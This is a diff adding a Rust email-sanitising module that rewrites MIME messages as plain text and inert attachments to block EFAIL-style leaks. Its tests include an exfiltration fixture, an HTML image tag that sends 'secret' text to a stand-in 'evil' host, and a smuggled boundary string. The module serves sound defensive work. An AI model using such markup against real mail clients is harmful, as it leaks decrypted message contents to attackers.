@@ -1,0 +1,142 @@
+//! A content of which only the text may be shown (EFAIL: ciphertext that nobody signed can be sewn together by others).
+//!
+//! Nothing of its structure is kept: each leaf is decoded and written anew, with a header of ours, in an encoding in which no
+//! delimiter can stand. A mail program that reads boundaries otherwise than Souspli does finds no HTML either.
+
+use super::html;
+use crate::mime::edit::{is_attachment, is_html, text_of};
+use crate::mime::encode::{base64_lines, qp_encode, transfer_decode};
+use crate::mime::entity::{Entity, Kind, parse};
+use crate::mime::header::Header;
+use crate::mime::parameters::{Parameterized, content_type, disposition, transfer_encoding};
+
+/// `=_` stands in no base64 and in no quoted-printable (RFC 2045 §6.7).
+const BOUNDARY: &str = "=_souspli-text";
+
+/// The content as a multipart/mixed of texts and attachments, none of them HTML, multipart or message.
+pub fn text_only(content: &[u8]) -> Vec<u8> {
+    let mut parts = Vec::new();
+    collect(content, &parse(content), &mut parts);
+    let mut out = format!("Content-Type: multipart/mixed; boundary=\"{BOUNDARY}\"\r\n").into_bytes();
+    for part in parts {
+        out.extend_from_slice(format!("\r\n--{BOUNDARY}\r\n").as_bytes());
+        out.extend(part);
+    }
+    out.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
+    out
+}
+
+fn collect(bytes: &[u8], entity: &Entity, parts: &mut Vec<Vec<u8>>) {
+    match &entity.kind {
+        Kind::Multipart(inside) => {
+            let has_plain = inside.iter().any(|p| p.media_type == "text/plain" && p.kind == Kind::Leaf);
+            let one_form = entity.media_type == "multipart/alternative" && has_plain;
+            for part in inside.iter().filter(|p| !(one_form && is_html(&p.media_type))) {
+                collect(bytes, part, parts);
+            }
+        }
+        Kind::Message(_) => parts.push(file(bytes, entity)),
+        Kind::Leaf => {
+            let header = Header::parse(&bytes[entity.header.clone()]).0;
+            let shown = is_html(&entity.media_type) || !is_attachment(&header);
+            let text = text_of(bytes, entity).filter(|_| shown).map(|(text, _)| text);
+            parts.push(text.map_or_else(|| file(bytes, entity), |text| written(&text, &entity.media_type)));
+        }
+    }
+}
+
+fn written(text: &str, media_type: &str) -> Vec<u8> {
+    let text = if is_html(media_type) {
+        html::to_text(text)
+    } else {
+        text.to_owned()
+    };
+    let quoted = qp_encode(text.as_bytes());
+    let (coding, body) = if quoted.len() > text.len() * 4 / 3 + 100 {
+        ("base64", base64_lines(text.as_bytes()))
+    } else {
+        ("quoted-printable", quoted)
+    };
+    let mut out = format!("Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: {coding}\r\n\r\n").into_bytes();
+    out.extend(body);
+    out
+}
+
+/// An attachment with its octets, under a type that no mail program opens by itself.
+fn file(bytes: &[u8], entity: &Entity) -> Vec<u8> {
+    let header = Header::parse(&bytes[entity.header.clone()]).0;
+    let body = &bytes[entity.body.clone()];
+    let octets = transfer_decode(transfer_encoding(&header), body).unwrap_or(body.into());
+    let kind = if is_inert(&entity.media_type) {
+        entity.media_type.as_str()
+    } else {
+        "application/octet-stream"
+    };
+    let mut place = Parameterized {
+        value: "attachment".to_owned(),
+        ..Parameterized::default()
+    };
+    if let Some(name) = name(&header).or_else(|| matches!(entity.kind, Kind::Message(_)).then(|| "message.eml".to_owned())) {
+        place.parameters.insert("filename".to_owned(), name);
+    }
+    let place = place.write();
+    let mut out = format!("Content-Type: {kind}\r\nContent-Disposition: {place}\r\nContent-Transfer-Encoding: base64\r\n\r\n").into_bytes();
+    out.extend(base64_lines(&octets));
+    out
+}
+
+/// Types that are listed or shown as a picture, and written as a type is.
+fn is_inert(media_type: &str) -> bool {
+    let spelled = media_type.bytes().all(|b| b.is_ascii_alphanumeric() || b"/.+-_".contains(&b));
+    let active = ["text/", "multipart/", "message/"].iter().any(|p| media_type.starts_with(p));
+    let cms = media_type.contains("pkcs7");
+    spelled && !active && !cms && !is_html(media_type) && !media_type.contains("svg") && !media_type.contains("xml")
+}
+
+fn name(header: &Header<'_>) -> Option<String> {
+    let given = disposition(header).and_then(|d| d.parameter("filename").map(str::to_owned));
+    given.or_else(|| content_type(header).parameter("name").map(str::to_owned))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn kinds(content: &[u8]) -> Vec<String> {
+        let tree = parse(content);
+        tree.children().iter().map(|c| c.media_type.clone()).collect()
+    }
+
+    #[test]
+    fn html_becomes_text_and_the_rest_files() {
+        let mail = b"Content-Type: multipart/mixed; boundary=m\r\n\r\n<img src=http://evil/\r\n--m\r\nContent-Type: multipart/related; boundary=r\r\n\r\n--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<img src=\"http://evil/?<p>secret\"><p>Bonjour</p>\r\n--r\r\nContent-Type: image/png; name=a.png\r\nContent-Transfer-Encoding: base64\r\n\r\nAAAA\r\n--r--\r\n--m\r\nContent-Type: message/rfc822\r\n\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--m\r\nContent-Type: text/html; charset=utf-32\r\n\r\n<b>\r\n--m\r\nContent-Type: multipart/mixed\r\n\r\n<b>\r\n--m--\r\n";
+        let out = text_only(mail);
+        assert_eq!(
+            kinds(&out),
+            [
+                "text/plain",
+                "image/png",
+                "application/octet-stream",
+                "application/octet-stream",
+                "application/octet-stream"
+            ]
+        );
+        let text = String::from_utf8(out).unwrap();
+        assert!(
+            text.contains("Bonjour") && text.contains("filename=\"a.png\"") && text.contains("message.eml"),
+            "{text}"
+        );
+        assert!(
+            !text.contains("evil") && !text.contains("<b>") && !text.contains("text/html"),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn an_alternative_gives_its_text_once() {
+        let mail = b"Content-Type: multipart/alternative; boundary=a\r\n\r\n--a\r\n\r\ntext\r\n--=_souspli-text\r\n--a\r\nContent-Type: text/html\r\n\r\n<p>text\r\n--a--\r\n";
+        let out = text_only(mail);
+        assert_eq!(kinds(&out), ["text/plain"]);
+        assert!(String::from_utf8(out).unwrap().contains("text\r\n--=3D_souspli-text"));
+    }
+}
